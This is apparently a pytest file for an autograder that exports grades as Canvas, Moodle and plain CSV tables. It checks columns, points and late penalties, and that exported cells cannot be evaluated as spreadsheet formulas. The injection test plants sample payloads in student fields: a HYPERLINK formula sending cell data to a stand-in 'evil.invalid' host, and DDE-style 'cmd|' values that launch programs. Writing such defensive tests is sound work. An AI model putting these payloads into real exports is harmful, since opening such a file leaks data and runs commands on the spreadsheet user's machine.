"""Tables for Canvas and Moodle, read back as those platforms read them; no cell is one that a spreadsheet computes."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest

from autograde.course import Course
from autograde.grading.export import export
from autograde.grading.export_cells import harmless, harmless_name
from autograde.grading.gradebook import open_gradebook
from autograde.grading.states import Outcome, State
from tests.autograde.reporting.made_class import describe, failure, give_marks, make_graded
from tests.autograde.tiny_course import hand_in

ALL = {"total-adds-up": 2, "total-elsewhere": 3, "double-doubles": 1}


@pytest.fixture
def small_class(released: Course) -> Course:
    make_graded(released, "ada")
    describe(released, "ada", first_name="Ada", last_name="King, Countess", email="ada@x.example", lms_user_id="4711")
    make_graded(released, "bob", {"total-elsewhere": failure("total-elsewhere")})
    give_marks(released, "cem", ALL | {"double-doubles": 0.25})
    Outcome("cem", "tiny", State.NEEDS_REVIEW).save(released)
    give_marks(released, "dan", ALL)
    Outcome("dan", "tiny", State.FAILED).save(released)
    give_marks(released, "eve", dict.fromkeys(ALL, 0))
    Outcome("eve", "tiny", State.MISSING).save(released)
    describe(released, "never", first_name="Has", last_name="Handed-In-Nothing")
    return released


def table(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8", newline="") as file:
        return list(csv.reader(file))


def test_canvas_finds_its_columns_its_points_and_every_student(small_class: Course) -> None:
    path, count = export(small_class, "tiny", form="canvas")
    header, points, *students = table(path)
    assert path.name == "grades-tiny-canvas.csv" and count == 1 + len(students)
    # What GradebookImporter#header? and #update_column_count ask for, and what it strips before the assignments.
    assert "Student" in header[0] and "ID" in header[1] and header[2:5] == ["SIS User ID", "SIS Login ID", "Section"]
    assert header[5:] == ["tiny"]
    assert "Points Possible" in points[0] and points[1:] == ["", "", "", "", "6"]
    by_login = {row[3]: row for row in students}
    assert by_login["ada"] == ["King, Countess, Ada", "4711", "", "ada", "", "6"]
    assert by_login["bob"][:2] == ["bob", ""]
    marks = {login: row[5] for login, row in by_login.items()}
    assert marks == {"ada": "6", "bob": "3", "cem": "", "dan": "", "eve": "0", "never": ""}


def test_moodle_gets_one_row_of_equal_length_for_each_student(small_class: Course, tmp_path: Path) -> None:
    path, count = export(small_class, None, tmp_path / "moodle.csv", form="moodle")
    header, *students = table(path)
    assert header == ["First name", "Last name", "ID number", "Username", "Email address", "tiny"]
    assert {len(row) for row in students} == {6} and count == len(students)  # csv_import_reader refuses anything else
    assert ["Ada", "King, Countess", "4711", "ada", "ada@x.example", "6"] in students
    assert {row[3]: row[5] for row in students}["never"] == ""


def test_a_late_penalty_is_in_every_form(small_class: Course) -> None:
    with open_gradebook(small_class) as gradebook:
        gradebook.find_submission_notebook("tiny", "tiny", "ada").late_submission_penalty = 1.5
        gradebook.db.commit()
    for form in ("canvas", "moodle"):
        (ada,) = [row for row in table(export(small_class, "tiny", form=form)[0]) if "ada" in row]
        assert ada[5] == "4.5"
    header, *rows = table(export(small_class, "tiny")[0])
    (row,) = [row for row in rows if row[0] == "ada"]
    assert (row[header.index("score")], row[header.index("late_penalty")]) == ("4.5", "1.5")


@pytest.mark.parametrize("form", ["csv", "canvas", "moodle"])
def test_no_cell_is_a_formula_and_every_name_is_still_itself(released: Course, form: str) -> None:
    evil = '=HYPERLINK("http://evil.invalid/?"&A1,"click")'
    for student in ("-ada", "@bob", "+4912345", "=1+1"):
        give_marks(released, student, ALL)
        describe(released, student, first_name=evil, last_name="\t@SUM(1)", email="-cmd|'/c calc'!A0")
    cells = [cell for row in table(export(released, "tiny", form=form)[0]) for cell in row]
    begins = {cell for cell in cells if cell[:1] in set("=+-@\t\r\n＝＋－＠")}
    assert begins == {"-ada", "@bob", "+4912345"}  # nothing to compute in these, and a platform has to know them
    assert "'=1+1" in cells and any(evil in cell for cell in cells)


def test_what_a_spreadsheet_would_compute_is_made_text() -> None:
    for text in ("=1", "+1", "-1", "@A1", "\tx", "\rx", "＝1"):
        assert harmless(text) == f"'{text}"
    for text in ("ada", "a=1", "'x", "", "King-Noel", "3", "0.5"):
        assert harmless(text) == text
    assert harmless("Ada;=1+1") == "Ada;'=1+1"  # two cells, where a semicolon parts them
    assert harmless("Ada;+1\n-1") == "Ada;'+1\n'-1"
    for name in ("-ada", "+49123", "@ada", "ada@x.example", "s-12.3", "-x", "josé"):
        assert harmless_name(name) == name
    for name in ("=ada", "-1+2", "+cmd|'x'!A1", "@SUM(A1)", "\tada"):
        assert harmless_name(name) == f"'{name}"


def test_a_submission_without_a_notebook_has_a_row(released: Course) -> None:
    hand_in(released, "eve", None)
    give_marks(released, "eve", dict.fromkeys(ALL, 0))
    assert [row[3] for row in table(export(released, None, form="canvas")[0])[2:]] == ["eve"]
